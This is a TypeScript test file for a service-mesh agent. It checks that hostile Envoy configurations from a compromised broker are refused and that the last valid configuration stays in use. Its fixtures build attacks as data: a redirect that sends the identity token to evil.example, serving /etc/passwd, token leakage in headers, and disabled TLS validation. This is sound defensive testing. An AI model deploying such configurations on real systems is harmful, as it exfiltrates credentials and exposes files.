/** Configuration from a compromised broker: none of it is used, and the last valid one stays in use. */
import { existsSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import type { Written } from '../configuration.ts';
import { service } from '../harness.ts';
import { addressOf, request, world } from '../world.ts';

const TYPE = 'type.googleapis.com/';
const FILE = '/tmp/meshpass-hostile-configuration';
const manager = ({ listeners }: Written) => listeners[0].filter_chains[0].filters[0].typed_config;
const tls = ({ clusters }: Written) => clusters[0].transport_socket.typed_config;

test.each<[string, (written: Written) => void]>([
  [
    'an access log that writes a file',
    (written) => {
      manager(written).access_log = [
        {
          name: 'file',
          typed_config: { '@type': `${TYPE}envoy.extensions.access_loggers.file.v3.FileAccessLog`, path: FILE },
        },
      ];
    },
  ],
  [
    'Lua',
    (written) => {
      manager(written).http_filters.unshift({
        name: 'lua',
        typed_config: {
          '@type': `${TYPE}envoy.extensions.filters.http.lua.v3.Lua`,
          default_source_code: { inline_string: `io.open("${FILE}", "w")` },
        },
      });
    },
  ],
  [
    "one of the developer's files as a response",
    ({ routes }) => {
      routes[0].virtual_hosts[0].routes[0] = {
        match: { prefix: '/' },
        direct_response: { status: 200, body: { filename: '/etc/passwd' } },
      };
    },
  ],
  [
    'a redirect to a foreign host with the identity token in the URL',
    ({ routes }) => {
      const header = { key: 'location', value: 'https://evil.example/?t=%REQ(X-Meshpass-Token)%' };
      routes[0].virtual_hosts[0].routes[0] = {
        match: { prefix: '/' },
        redirect: { host_redirect: 'evil.example', response_code: 'TEMPORARY_REDIRECT' },
        response_headers_to_add: [{ header, append_action: 'OVERWRITE_IF_EXISTS_OR_ADD' }],
      };
    },
  ],
  [
    "the identity token in a header of the service's response",
    ({ routes }) => {
      routes[0].response_headers_to_add = [{ header: { key: 'x-answer', value: '%REQ(x-none?x-meshpass-token)%' } }];
    },
  ],
  [
    'a listener open to every host',
    ({ listeners }) => {
      listeners[0].address.socket_address.address = '0.0.0.0';
    },
  ],
  [
    'a listener on a loopback address that other programs use',
    ({ listeners }) => {
      listeners[0].address.socket_address.address = '127.0.0.1';
    },
  ],
  [
    'a cluster that leads out of the mesh',
    ({ clusters }) => {
      clusters[0].load_assignment.endpoints[0].lb_endpoints[0].endpoint.address = {
        socket_address: { address: '192.0.2.1', port_value: 80 },
      };
    },
  ],
  [
    'a cluster without TLS, which exposes the token in transit',
    ({ clusters }) => {
      delete clusters[0].transport_socket;
    },
  ],
  [
    'a cluster that accepts any certificate',
    (written) => {
      tls(written).common_tls_context.combined_validation_context.default_validation_context = {};
    },
  ],
  [
    'a workload of another trust domain',
    (written) => {
      const { default_validation_context: context } = tls(written).common_tls_context.combined_validation_context;
      context.match_typed_subject_alt_names[0].matcher.exact = 'spiffe://evil.example/ns/shop/sa/orders';
    },
  ],
  [
    'the tunnel of a grant outside the session',
    ({ clusters }) => {
      const [endpoint] = clusters[0].load_assignment.endpoints[0].lb_endpoints;
      endpoint.endpoint.address.envoy_internal_address.server_listener_name = 'tunnel/other';
    },
  ],
  [
    "the agent's own socket as a cluster",
    ({ clusters }) => {
      clusters[0].name = 'agent';
    },
  ],
  [
    'a name on the internet',
    ({ routes }) => {
      routes[0].virtual_hosts[0].domains.push('github.com');
    },
  ],
  [
    'a catch-all with a destination',
    ({ routes }) => {
      routes[0].virtual_hosts[1].routes[0] = structuredClone(routes[0].virtual_hosts[0].routes[0]);
    },
  ],
])('%s', async (_, spoil) => {
  const w = await world({
    adjust: (broker) => {
      broker.heartbeatSeconds = 1;
    },
  });
  const address = await addressOf(w);
  w.broker.spoilConfiguration = spoil;
  w.broker.configurationVersion += 1;
  const state = async () => (await w.agent.status()).configuration;
  await expect.poll(async () => (await state()).refused.length).toBeGreaterThan(0);
  const { notes, configuration, envoy } = await w.agent.status();
  expect(configuration).toMatchObject({ version: w.broker.configurationVersion - 1, rejected: [] });
  expect(notes[0]).toContain('The last valid one stays in use');
  expect(envoy.listeners.map((one) => one.address)).toContain(`${address}:8080`);
  expect((await request(address, 8080, '/orders/1')).status).toBe(200);
  expect(existsSync(FILE)).toBe(false);
  // The honest configuration is accepted again.
  w.broker.spoilConfiguration = undefined;
  w.broker.configurationVersion += 1;
  await expect.poll(async () => (await state()).version).toBe(w.broker.configurationVersion);
  expect((await state()).refused).toEqual([]);
});

test('leaves the workspace without services, but with its own names, if the first configuration is hostile', async () => {
  const w = await world({
    adjust: (broker) => {
      broker.spoilConfiguration = ({ listeners }) => {
        listeners[0].address.socket_address.address = '0.0.0.0';
      };
    },
  });
  const { envoy, configuration } = await w.agent.status();
  expect(envoy.listeners.map(({ name }) => name)).toEqual(['agent/proxy']);
  expect(configuration.version).toBeUndefined();
  expect(readFileSync(w.hostsFile, 'utf8')).toBe('127.0.0.1 localhost\n');
});

test("updates the agent's own resources with the services while a configuration is refused", async () => {
  const w = await world({
    adjust: (broker) => {
      broker.heartbeatSeconds = 1;
    },
  });
  w.broker.spoilConfiguration = ({ listeners }) => {
    listeners[0].address.socket_address.address = '0.0.0.0';
  };
  w.broker.configurationVersion += 1;
  await expect.poll(async () => (await w.agent.status()).configuration.refused.length).toBeGreaterThan(0);
  w.broker.services = [service(), service({ grant: 'ops', host: 'ledger.shop.svc.cluster.local', aliases: [] })];
  w.broker.servicesVersion = '2';
  const clusters = async () => (await w.agent.status()).envoy.clusters.map(({ name }) => name);
  await expect.poll(clusters).toEqual(expect.arrayContaining(['edge/ops']));
  expect((await request(await addressOf(w), 8080, '/orders/1')).status).toBe(200);
});
